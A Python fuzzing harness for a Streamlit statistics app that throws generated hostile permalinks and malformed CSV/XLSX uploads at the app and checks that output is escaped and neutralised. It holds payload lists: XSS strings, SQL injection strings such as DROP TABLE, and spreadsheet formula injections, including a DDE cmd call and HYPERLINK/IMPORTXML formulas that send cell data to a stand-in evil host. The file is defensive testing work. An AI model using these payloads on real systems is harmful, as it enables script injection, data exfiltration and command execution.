"""Hostile input (issue 9, part 3): generated permalinks on every page and malformed uploads.

    /tmp/venv/bin/python bench/fuzz.py [--links 200] [--uploads 100] [--seed N] [--pages all|one]
        [--db sqlite:////abs/path/mrl.sqlite]

**Permalinks.** ``links`` query strings from a seeded generator mixing categories — unknown
parameters, wrong types, unknown TERYT/indicators/years (well-formed but not in the store), SQL
injection, markup/script injection (``<script>``, Markdown images/links that would load from
another host), huge values and long strings, repeated parameters, unicode/control characters,
empty values, and valid links as a control. Each link runs through Streamlit's AppTest (the real
app.py, router and sidebar, against the real store) on every page (``--pages one``: one page per
link, round-robin). Checked per run: no exception element, no "Traceback"/"Error:" text anywhere,
injected markup never appears unescaped in any Markdown-rendering element, every malformed or
unknown parameter gets its message in the user's language (the catalogue text ``url.<reason>``
for the link's language), and the URL the app writes back parses without problems.

**Uploads.** ``uploads`` malformed files (wrong/unknown encodings, binary/zip/png/pdf bytes, a file
over the size limit, empty, header-only, wrong delimiter, ragged rows, formula-injection cells
``=HYPERLINK(...)``, ``+cmd``, ``-1+1``, ``@SUM``, tab/CR-prefixed; in value cells and in name
cells; CSV and XLSX) through the data page's upload path (``services.data.preview`` — parse and
match — then the page's problem texts): a rejected file must raise ``UploadError`` whose every
problem has a message in Polish and English; an accepted file's preview table (what the page shows
and what a user can export) is exported as CSV and XLSX and no cell may be a formula (openpyxl)
or start with a formula character unquoted (CSV).

**Store unchanged**: SHA-256 of the SQLite file (or per-table row counts on PostgreSQL) and the
ingest id, before and after all runs.

**Reports**: a report whose unit name and indicator text are hostile is rendered to HTML and must
contain them only escaped.

Results: bench/results/fuzz.txt (committed) and bench/out/fuzz.json. The generators and checks are
imported by tests/test_fuzz_hostile.py (a fast subset).
"""
from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import random
import re
import sys
import time
import traceback
import zipfile
from collections import Counter, defaultdict
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

RESULTS = ROOT / "bench" / "results"
OUT = ROOT / "bench" / "out"

# -------------------------------------------------------------------------------------------------
# Permalink generator
# -------------------------------------------------------------------------------------------------

EVIL_HOST = "evil.invalid"
INJECTIONS = [  # markup that must never reach a Markdown/HTML element unescaped
    f"![x](http://{EVIL_HOST}/p.png)", f"[kliknij](http://{EVIL_HOST}/)", "<script>alert(1)</script>",
    f"<img src=http://{EVIL_HOST}/i.png onerror=alert(1)>", "**bold** _it_ `code` $x^2$",
    "javascript:alert(1)", "\"><svg onload=alert(1)>", "{{7*7}}", "{key}", "%(x)s {0}", "<b>Gmina</b>",
]
SQL = ["' OR 1=1 --", "1261011' OR '1'='1", "1; DROP TABLE value; --", "population_total'; DELETE FROM unit; --",
       "\" OR \"\"=\"", "1 UNION SELECT * FROM meta", "') OR ('a'='a", "%' --", "2019; VACUUM", "*"]
WRONG_TYPE = {"unit": ["krakow", "12.5", "-1261011", "1e6", "0x1F", "True", "[1,2]", "{}"],
              "area": ["abc,def", "1,2,3", ";;;", "1261011,,x"], "indicator": ["123", "1.5", "-", "POPULATION TOTAL"],
              "year": ["dwa tysiące", "2019.5", "1e3", "-2019", "+2019", "20 19", "MMXIX", "nan", "inf"],
              "level": ["3", "GMINA ", "town", "województwa"], "peers": ["knn:k=abc", "custom:abc", "knn:k=-3", "x:y:z"],
              "lang": ["de", "EN", "1", "pl-PL"], "cls": ["7", "none"], "k": ["two", "0", "99", "-5", "3.5"],
              "x": ["<unknown>", "1"], "y": ["2"], "breaks": ["a,b", "1,,2", "9e999"], "pal": ["rainbow"],
              "ind2": ["42"], "tab": ["-1", "999"], "page": ["-3", "abc", "1e9"], "charts": ["position,", ",,,"]}
UNKNOWN_ID = {"unit": ["9999999", "3201011", "0000000", "1299", "99", "126199", "0218999"],
              "area": ["9999999,9999989", "3201011,3201021,3201031"],
              "indicator": ["population_totall", "bdl_999999", "own_nope", "nope"],
              "year": ["1990", "2100", "1991", "2099"], "peers": ["custom:9999999,8888888"],
              "ind2": ["nope_nope"], "x": ["nope_indicator"], "y": ["nope_indicator"]}
UNICODE = ["Kraków", "ąęśćńłóźż", "🙂🙂🙂", "\u202eevil", "\u0000", "\x1b[31m", "ｕｎｉｔ", "Ω≈ç√",
           "\ufeff1261011", "１２６１０１１", "\u200b1261011", "ᛗᚱᛚ"]
HUGE = ["9" * 40, "1" * 7 * 600, "x" * 5000, "1261011," * 800, "1e308", "-1e308", "9" * 400, "%" * 300]
GOOD = {"unit": ["1261011", "0201022", "1465011", "12", "PL", "1206"], "indicator": ["population_total", "turnout_sejm"],
        "year": ["2019", "2023"], "level": ["gmina", "powiat"], "lang": ["pl", "en"]}
KEYS = ["unit", "area", "indicator", "year", "level", "peers", "lang", "cls", "k", "x", "y", "breaks", "pal",
        "ind2", "tab", "page", "charts"]
CATEGORIES = ["unknown_param", "wrong_type", "unknown_id", "sql_injection", "markup_injection", "huge",
              "repeated", "unicode", "empty", "valid"]


@dataclass
class Link:
    n: int
    category: str
    params: dict  # key -> str or list[str]

    def query(self) -> str:
        from urllib.parse import urlencode
        return urlencode(self.params, doseq=True)


def generate_links(n: int, seed: int = 9) -> list[Link]:
    """``n`` permalinks, categories in turn (so every category is represented), values seeded."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        cat = CATEGORIES[i % len(CATEGORIES)]
        p: dict = {}
        if rng.random() < 0.6:  # often on top of a valid view, as a shared link would be
            for k in rng.sample(sorted(GOOD), rng.randint(1, 3)):
                p[k] = rng.choice(GOOD[k])
        for _ in range(rng.randint(1, 3)):
            key = rng.choice(KEYS)
            if cat == "unknown_param":
                key = rng.choice(["foo", "UNIT", "unit[]", "utm_source", "lang ", "", "<script>", "' OR 1=1 --",
                                  "x" * 300, "ünït", f"![a](http://{EVIL_HOST}/k.png)"])
                p[key] = rng.choice(["1", "1261011", "", rng.choice(INJECTIONS)])
            elif cat == "wrong_type":
                key = rng.choice(sorted(WRONG_TYPE))
                p[key] = rng.choice(WRONG_TYPE[key])
            elif cat == "unknown_id":
                key = rng.choice(sorted(UNKNOWN_ID))
                p[key] = rng.choice(UNKNOWN_ID[key])
            elif cat == "sql_injection":
                p[key] = rng.choice(SQL)
            elif cat == "markup_injection":
                p[key] = rng.choice(INJECTIONS)
            elif cat == "huge":
                p[key] = rng.choice(HUGE)
            elif cat == "repeated":
                vals = [rng.choice(GOOD.get(key, ["1"]) + SQL[:2] + INJECTIONS[:2]) for _ in range(rng.randint(2, 4))]
                p[key] = vals
            elif cat == "unicode":
                p[key] = rng.choice(UNICODE)
            elif cat == "empty":
                p[key] = rng.choice(["", " ", "\t"])
            else:  # valid: a plain view
                key = rng.choice(sorted(GOOD))
                p[key] = rng.choice(GOOD[key])
        out.append(Link(i, cat, p))
    return out


# -------------------------------------------------------------------------------------------------
# Running a permalink through AppTest
# -------------------------------------------------------------------------------------------------

def pages() -> list[str]:
    from presentation.navigation import PAGES

    return [p.path for p in PAGES]


def _production_pages_manager() -> None:
    """What a real server does after the first st.navigation (see tests/conftest.make_app)."""
    from streamlit.runtime.pages_manager import PagesManager

    if getattr(PagesManager, "_mrl_patched", False):
        return
    original = PagesManager.__init__

    def init(self, *a, **k):
        original(self, *a, **k)
        PagesManager.uses_pages_directory = False

    PagesManager.__init__ = init
    PagesManager._mrl_patched = True


MD_ELEMENTS = ("markdown", "caption", "warning", "error", "info", "success", "title", "header", "subheader", "toast")


def rendered_texts(at) -> list[tuple[str, str]]:
    """(element type, text) of everything the page rendered as Markdown or as a label."""
    out = []
    for kind in MD_ELEMENTS:
        for el in getattr(at, kind, []):
            out.append((kind, str(getattr(el, "value", "") or "")))
    for kind in ("expander", "tabs", "button", "selectbox", "radio", "text_input", "metric"):
        for el in getattr(at, kind, []):
            out.append((kind, str(getattr(el, "label", "") or "")))
    return out


def expected_messages(params: dict, lang: str) -> list[str]:
    """The catalogue messages the app must show for the link's malformed parameters."""
    from presentation.data_text import md
    from domain.permalink import parse_query
    from i18n import t

    msgs = []
    for p in parse_query(params).problems:
        if p.reason.startswith("recoded:"):
            continue
        msgs.append(t(f"url.{p.reason}", lang, key=md(p.key), value=md(p.value)))
    return msgs


@dataclass
class RunResult:
    link: int
    category: str
    page: str
    seconds: float
    failures: list[str] = field(default_factory=list)
    messages: int = 0


def leaked_markup(texts: list[tuple[str, str]], params: dict) -> list[str]:
    """Injected markup found verbatim (unescaped) in a Markdown-rendering element."""
    found = []
    raw = [v for vals in params.values() for v in (vals if isinstance(vals, list) else [vals])] + list(params)
    for inj in raw:
        if not isinstance(inj, str):
            continue
        # distinctive parts of INJECTIONS (the app's own markup, e.g. its sparkline <svg>, is not a finding)
        for marker in (f"](http://{EVIL_HOST}", "<script", f"<img src=http://{EVIL_HOST}", "<svg onload", "<b>Gmina",
                       "**bold**"):
            if marker in inj:
                unescaped = re.compile(r"(?<!\\)" + re.escape(marker))  # not preceded by a backslash
                for kind, text in texts:
                    if unescaped.search(text):
                        found.append(f"{kind} shows {marker!r} unescaped: {text[:120]!r}")
    return found


def run_link(link: Link, page: str, *, timeout: float = 120) -> RunResult:
    from streamlit.testing.v1 import AppTest

    from domain.permalink import LANGS, parse_query

    _production_pages_manager()
    t0 = time.perf_counter()
    res = RunResult(link.n, link.category, page, 0.0)
    try:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=timeout)
        at.switch_page(page)
        for k, v in link.params.items():
            at.query_params[k] = v
        at.run()
    except Exception as exc:  # noqa: BLE001 - AppTest itself failing is a finding
        res.failures.append(f"AppTest raised {type(exc).__name__}: {exc}"[:300])
        res.seconds = time.perf_counter() - t0
        return res
    res.seconds = time.perf_counter() - t0
    if at.exception:
        res.failures.append("exception element: " + str(at.exception[0].value)[:300])
    texts = rendered_texts(at)
    for kind, text in texts:
        if "Traceback" in text or "File \"/" in text:
            res.failures.append(f"traceback text in {kind}: {text[:200]!r}")
    res.failures += leaked_markup(texts, link.params)
    parsed = parse_query(link.params)
    lang = parsed.state.lang if parsed.state.lang in LANGS else "pl"
    shown = [v for k, v in texts if k in ("warning", "info", "error")]
    res.messages = len(shown)
    for msg in expected_messages(link.params, lang):
        if msg not in shown:
            res.failures.append(f"missing message {msg[:120]!r}; shown {[s[:80] for s in shown][:4]}")
    # the URL the app writes back is a clean permalink
    written = {k: v for k, v in at.query_params.items()}
    flat = {k: (v[-1] if isinstance(v, list) and v else v) for k, v in written.items()}
    again = parse_query(flat)
    if again.problems:
        res.failures.append(f"rewritten URL still has problems: {again.problems[:2]}")
    return res


# -------------------------------------------------------------------------------------------------
# Upload generator
# -------------------------------------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"Kliknij")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", "=1+1", '=IMPORTXML(CONCAT("http://evil.invalid/?v=",A2),"//a")', "-2+3+cmd|' /C x'!A0",
            "=DDE(\"cmd\";\"/C calc\";\"x\")"]
UPLOAD_CATEGORIES = ["encoding", "binary", "giant", "empty", "header_only", "delimiter", "ragged", "formula_value",
                     "formula_text", "xlsx_formula", "bad_years", "too_many_rows", "markup_text", "valid"]
CODES = ["1261011", "0201022", "1465011", "0264011", "1206172", "1219053", "3064011", "2002162"]


def _csv(rows: list[list[str]], sep: str = ";", encoding: str = "utf-8", eol: str = "\r\n") -> bytes:
    return eol.join(sep.join(r) for r in rows).encode(encoding, errors="replace")


def _xlsx(rows: list[list[object]], formulas: dict | None = None) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for r in rows:
        ws.append(r)
    for ref, f in (formulas or {}).items():
        ws[ref] = f
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _good_rows(rng: random.Random, n: int = 5) -> list[list[str]]:
    return [["teryt", "nazwa", "rok", "wartość"]] + [
        [c, "", str(rng.choice([2019, 2020, 2021, 2022, 2023])), f"{rng.uniform(0, 1000):.2f}".replace(".", ",")]
        for c in rng.sample(CODES, min(n, len(CODES)))]


def generate_uploads(n: int, seed: int = 11, *, max_bytes: int | None = None) -> list[tuple[str, str, bytes]]:
    """``n`` (category, filename, bytes) — categories in turn, content seeded."""
    from loaders.upload import MAX_BYTES, MAX_ROWS

    max_bytes = max_bytes or MAX_BYTES
    rng = random.Random(seed)
    out = []
    for i in range(n):
        cat = UPLOAD_CATEGORIES[i % len(UPLOAD_CATEGORIES)]
        v = i // len(UPLOAD_CATEGORIES)
        rows = _good_rows(rng)
        if cat == "encoding":
            enc = ["cp037", "shift_jis", "utf-32", "koi8-r", "mac_roman", "utf-16-be", "cp1250", "utf-16"][v % 8]
            rows[1][1] = "Łódź Żółć Gęś"
            name, data = "enc.csv", _csv(rows, encoding=enc)
        elif cat == "binary":
            kind = v % 6
            if kind == 0:
                name, data = "random.csv", rng.randbytes(rng.randint(1, 50_000))
            elif kind == 1:
                z = io.BytesIO()
                with zipfile.ZipFile(z, "w") as zf:
                    zf.writestr("a.txt", "hello")
                name, data = "archive.xlsx", z.getvalue()
            elif kind == 2:
                name, data = "image.csv", b"\x89PNG\r\n\x1a\n" + rng.randbytes(2000)
            elif kind == 3:
                name, data = "doc.xlsx", b"%PDF-1.7\n" + rng.randbytes(3000)
            elif kind == 4:
                name, data = "nul.csv", b"teryt;rok;wartosc\r\n1261011\x00;2019;1\r\n" * 3
            else:
                name, data = "old.xls", rng.randbytes(4096)
        elif cat == "giant":
            body = _csv(rows[:1]) + b"\r\n" + b"1261011;2019;1\r\n" * (max_bytes // 16 + 10)
            name, data = "giant.csv", body[: max_bytes + 1 + v * 1000]
        elif cat == "empty":
            name, data = ["empty.csv", "empty.xlsx", "blank.csv"][v % 3], [b"", b"", b"\r\n\r\n   \r\n"][v % 3]
        elif cat == "header_only":
            name, data = ("h.csv", _csv(rows[:1])) if v % 2 == 0 else ("h.xlsx", _xlsx(rows[:1]))
        elif cat == "delimiter":
            sep = ["#", "~", " ", "\x1f"][v % 4]
            name, data = "delim.csv", _csv(rows, sep=sep)
        elif cat == "ragged":
            rr = [r[: rng.randint(1, len(r))] + ["extra"] * rng.randint(0, 3) for r in rows]
            rr[0] = rows[0]
            name, data = "ragged.csv", _csv(rr)
        elif cat == "formula_value":
            rows[2][3] = rng.choice(FORMULAS)
            name, data = "fval.csv", _csv(rows)
        elif cat == "formula_text":  # formulas in the name column of otherwise good rows: accepted, neutralised
            for r in rows[1:]:
                r[1] = rng.choice(FORMULAS)
            name, data = ("ftext.csv", _csv(rows)) if v % 2 == 0 else ("ftext.xlsx", _xlsx(rows))
        elif cat == "xlsx_formula":
            data = _xlsx([[c if j != 3 else 1.0 for j, c in enumerate(r)] if k else r for k, r in enumerate(rows)],
                         formulas={"D2": rng.choice(["=1+1", "=SUM(D3:D5)", '=HYPERLINK("http://evil.invalid","x")'])}
                         if v % 2 == 0 else {"B3": '=HYPERLINK("http://evil.invalid","x")'})
            name = "formula.xlsx"
        elif cat == "bad_years":
            rows[1][2] = rng.choice(["1800", "3000", "dwa tysiące", "2019.5", "", "-2019"])
            name, data = "years.csv", _csv(rows)
        elif cat == "too_many_rows":
            line = "1261011;Kraków;2019;1\r\n"
            data = ("teryt;nazwa;rok;wartość\r\n" + line * (MAX_ROWS + 1 + v)).encode()
            name = "rows.csv"
        elif cat == "markup_text":
            for r in rows[1:]:
                r[1] = rng.choice(INJECTIONS)
            name, data = "markup.csv", _csv(rows)
        else:
            name, data = ("ok.csv", _csv(rows)) if v % 2 == 0 else ("ok.xlsx", _xlsx(rows))
        out.append((cat, name, data))
    return out


@dataclass
class UploadResult:
    n: int
    category: str
    filename: str
    size: int
    outcome: str  # rejected / accepted
    seconds: float
    failures: list[str] = field(default_factory=list)
    codes: tuple = ()


def check_export_safe(frame, lang: str = "pl") -> list[str]:
    """Export a table as the app does (CSV, XLSX); no formula may survive."""
    from openpyxl import load_workbook

    from reports import csv as csv_out
    from reports import xlsx
    from reports.cells import DANGEROUS_START
    from reports.model import ExportMeta

    bad = []
    text = csv_out.build_csv(frame, lang=lang).decode("utf-8-sig")
    import csv as _csv_mod

    sep = ";" if lang == "pl" else ","
    for row in _csv_mod.reader(io.StringIO(text, newline=""), delimiter=sep):
        for cell in row:
            if cell.startswith(DANGEROUS_START):
                bad.append(f"CSV cell not neutralised: {cell[:60]!r}")
    wb = load_workbook(io.BytesIO(xlsx.build_xlsx(frame, ExportMeta(title="fuzz", lang=lang))))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    bad.append(f"XLSX formula cell {ws.title}!{c.coordinate}: {str(c.value)[:60]!r}")
                elif isinstance(c.value, str) and c.value.startswith(DANGEROUS_START) and not c.quotePrefix:
                    bad.append(f"XLSX text cell {ws.title}!{c.coordinate} without quote prefix: {c.value[:60]!r}")
    return bad


def run_upload(n: int, cat: str, filename: str, data: bytes, ingest: str) -> UploadResult:
    from components.data_upload import preview_frame, problem_text
    from services import data as D

    t0 = time.perf_counter()
    res = UploadResult(n, cat, filename, len(data), "", 0.0)
    try:
        pv = D.preview.__wrapped__(data, filename, ingest) if hasattr(D.preview, "__wrapped__") else \
            D.preview._info.func(data, filename, ingest)  # noqa: SLF001 - uncached: the same path, no cache memory
    except D.UploadError as exc:
        res.outcome = "rejected"
        res.codes = tuple(sorted({p.code for p in exc.problems}))
        if not exc.problems:
            res.failures.append("rejected without a reason")
        for p in exc.problems:
            for lang in ("pl", "en"):
                try:
                    msg = problem_text(p, lang)
                except Exception as e:  # noqa: BLE001
                    res.failures.append(f"no {lang} message for problem {p.code}: {e}")
                    continue
                if not msg.strip() or "data.problem." in msg:
                    res.failures.append(f"empty/untranslated {lang} message for {p.code}")
                for marker in (f"](http://{EVIL_HOST}", "<script", "<img"):
                    if marker in msg:
                        res.failures.append(f"problem text shows {marker!r} unescaped")
    except Exception as exc:  # noqa: BLE001 - anything else would reach the page as an error box
        res.outcome = "crashed"
        res.failures.append(f"{type(exc).__name__}: {exc}"[:300] + " | " + traceback.format_exc(limit=3)[-300:])
    else:
        res.outcome = "accepted"
        for lang in ("pl", "en"):
            frame = preview_frame(pv.matched, lang)
            res.failures += check_export_safe(frame, lang)
    res.seconds = time.perf_counter() - t0
    return res


# -------------------------------------------------------------------------------------------------
# Reports: hostile names are escaped in the report HTML
# -------------------------------------------------------------------------------------------------

def check_report_html(store) -> list[str]:
    import dataclasses

    from reports import gather, pdf
    from reports.model import KeyIndicator

    bad = []
    model = gather.build(store, lang="pl", code="1261011", charts=(), with_map=False)
    for evil in INJECTIONS + FORMULAS:
        m = dataclasses.replace(model, title=evil, key_indicators=model.key_indicators + (
            KeyIndicator("own", evil, 1.0, "1", evil, 2024, evil),))
        html = pdf.render_html(m, [])
        for marker in ("<script", "<img", "<svg", "<b>Gmina"):
            if marker in evil and marker in html:
                bad.append(f"report HTML contains {marker!r} unescaped")
    return bad


# -------------------------------------------------------------------------------------------------
# Store fingerprint
# -------------------------------------------------------------------------------------------------

def store_fingerprint(store) -> dict:
    """Row counts per table and the ingest id (+ the file's SHA-256 for SQLite)."""
    from sqlalchemy import func, select

    from store import schema as S

    out = {"ingest_id": store.meta().get("ingest_id")}
    with store.engine.connect() as conn:
        for name, table in sorted(S.metadata.tables.items()):
            try:
                out[name] = conn.execute(select(func.count()).select_from(table)).scalar()
            except Exception:  # noqa: BLE001 - a table absent from an older store
                out[name] = None
    if store.is_sqlite:
        path = Path(store.url.split("sqlite:///", 1)[1])
        h = hashlib.sha256()
        with path.open("rb") as fh:
            for chunk in iter(lambda: fh.read(1 << 20), b""):
                h.update(chunk)
        out["sha256"] = h.hexdigest()
    return out


# -------------------------------------------------------------------------------------------------
# Main
# -------------------------------------------------------------------------------------------------

def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--links", type=int, default=200)
    ap.add_argument("--uploads", type=int, default=100)
    ap.add_argument("--seed", type=int, default=9)
    ap.add_argument("--pages", choices=["all", "one"], default="all")
    ap.add_argument("--db", default=f"sqlite:///{ROOT / 'data' / 'mrl.sqlite'}")
    args = ap.parse_args()
    os.environ.update(MRL_DATABASE_URL=args.db, MRL_I18N_STRICT="1", MRL_PUBLIC_MODE="0")
    import logging

    logging.getLogger("streamlit").setLevel(logging.ERROR)
    from settings import get_settings
    from store.db import Store

    s = get_settings()
    store = Store(s.database_url, schema=s.db_schema)
    before = store_fingerprint(store)
    ingest = before["ingest_id"]
    t_start = time.perf_counter()

    links = generate_links(args.links, args.seed)
    page_list = pages()
    link_results: list[RunResult] = []
    for i, link in enumerate(links):
        targets = page_list if args.pages == "all" else [page_list[i % len(page_list)]]
        for page in targets:
            r = run_link(link, page)
            link_results.append(r)
            if r.failures:
                print(f"link {link.n} [{link.category}] {page}: {r.failures[:2]}  ?{link.query()[:120]}", flush=True)
        if i % 20 == 0:
            print(f"... {i + 1}/{len(links)} links, {time.perf_counter() - t_start:.0f} s", flush=True)

    uploads = generate_uploads(args.uploads, args.seed + 2)
    up_results = []
    for i, (cat, name, data) in enumerate(uploads):
        r = run_upload(i, cat, name, data, ingest)
        up_results.append(r)
        if r.failures:
            print(f"upload {i} [{cat}] {name}: {r.outcome} {r.failures[:2]}", flush=True)
    report_bad = check_report_html(store)
    after = store_fingerprint(store)
    store.dispose()
    total = time.perf_counter() - t_start
    write_results(args, links, link_results, up_results, report_bad, before, after, total)


# What earlier runs of this fuzzer found, each fixed in the app (kept here so the results file says so)
FOUND_AND_FIXED = [
    "URL problem messages put the parameter's name/value into Markdown unescaped: a permalink with "
    "![x](http://host/p.png) made every visitor's browser load an image from another host "
    "(components/messages.py: escaped)",
    "the map's unknown-palette / bad-breaks notes and the report's unknown-charts note: same, URL text unescaped "
    "(components/map_state.py, map_view.py, report_panel.py)",
    "pages that end early with st.stop() (e.g. /obszary with an unusable area) never rewrote the URL: junk "
    "parameters stayed in the address bar (app.py writes the URL before the page runs, too)",
    "a CSV upload with a bare CR (old Mac line ends, or a CR-prefixed cell '\\r=1+1') crashed the CSV reader "
    "(csv.Error → 'unexpected error' box) instead of a clear message (loaders/upload.py)",
]


def write_results(args, links, link_results, up_results, report_bad, before, after, total) -> None:
    from bench.profile_bench import head_lines

    RESULTS.mkdir(parents=True, exist_ok=True)
    OUT.mkdir(parents=True, exist_ok=True)
    lines = head_lines("fuzz", "hostile permalinks (AppTest, every page) and malformed uploads (upload path)")
    lines.append(f"store: {args.db}   seed: {args.seed}   total time: {total:.0f} s")
    lines.append("")
    lines.append(f"## Permalinks: {len(links)} generated, {len(link_results)} page runs "
                 f"({'every page' if args.pages == 'all' else 'one page each'})")
    by_cat = defaultdict(lambda: [0, 0, 0])
    for r in link_results:
        c = by_cat[r.category]
        c[0] += 1
        c[1] += bool(r.failures)
        c[2] += r.messages
    lines.append(f"{'category':<18}{'links':>6}{'runs':>7}{'failed':>8}{'messages shown':>16}")
    link_cats = Counter(link.category for link in links)
    for cat in CATEGORIES:
        c = by_cat[cat]
        lines.append(f"{cat:<18}{link_cats[cat]:>6}{c[0]:>7}{c[1]:>8}{c[2]:>16}")
    secs = sorted(r.seconds for r in link_results)
    if secs:
        lines.append(f"AppTest run time: p50 {secs[len(secs) // 2]:.2f} s, max {secs[-1]:.2f} s")
    by_page = Counter(r.page for r in link_results if r.failures)
    lines.append(f"failed runs: {sum(by_page.values())}" + (f" ({dict(by_page)})" if by_page else ""))
    fails = [r for r in link_results if r.failures]
    for r in fails[:30]:
        lines.append(f"  link {r.link} [{r.category}] {r.page}: {r.failures[0][:200]}")
    lines.append("")
    lines.append(f"## Uploads: {len(up_results)} files")
    lines.append(f"{'category':<16}{'files':>6}{'rejected':>10}{'accepted':>10}{'crashed':>9}{'failed':>8}  problem codes")
    ub = defaultdict(list)
    for r in up_results:
        ub[r.category].append(r)
    for cat in UPLOAD_CATEGORIES:
        rs = ub[cat]
        codes = sorted({c for r in rs for c in r.codes})
        lines.append(f"{cat:<16}{len(rs):>6}{sum(r.outcome == 'rejected' for r in rs):>10}"
                     f"{sum(r.outcome == 'accepted' for r in rs):>10}{sum(r.outcome == 'crashed' for r in rs):>9}"
                     f"{sum(bool(r.failures) for r in rs):>8}  {', '.join(codes)}")
    for r in [r for r in up_results if r.failures][:30]:
        lines.append(f"  upload {r.n} [{r.category}] {r.filename} ({r.size:,} B) {r.outcome}: {r.failures[0][:200]}")
    lines.append("")
    lines.append(f"## Report HTML escaping: {len(INJECTIONS + FORMULAS)} hostile titles/names, "
                 f"{len(report_bad)} unescaped")
    lines += [f"  {b}" for b in report_bad]
    lines.append("")
    same = before == after
    lines.append(f"## Store unchanged: {'yes' if same else 'NO'} (ingest id {before.get('ingest_id')}, "
                 f"sha256 {str(before.get('sha256', '-'))[:16]}…, value rows {before.get('value')})")
    if not same:
        lines.append(f"  before {before}\n  after  {after}")
    n_fail = len(fails) + sum(bool(r.failures) for r in up_results) + len(report_bad) + (not same)
    lines.append(f"TOTAL FAILURES: {n_fail}")
    lines += ["", "## Found by earlier runs and fixed"] + [f"  - {x}" for x in FOUND_AND_FIXED]
    text = "\n".join(lines) + "\n"
    (RESULTS / "fuzz.txt").write_text(text, encoding="utf-8")
    (OUT / "fuzz.json").write_text(json.dumps({
        "links": [r.__dict__ for r in link_results], "uploads": [
            {k: v for k, v in r.__dict__.items()} for r in up_results]}, default=str, indent=1), encoding="utf-8")
    print(text)


if __name__ == "__main__":
    main()
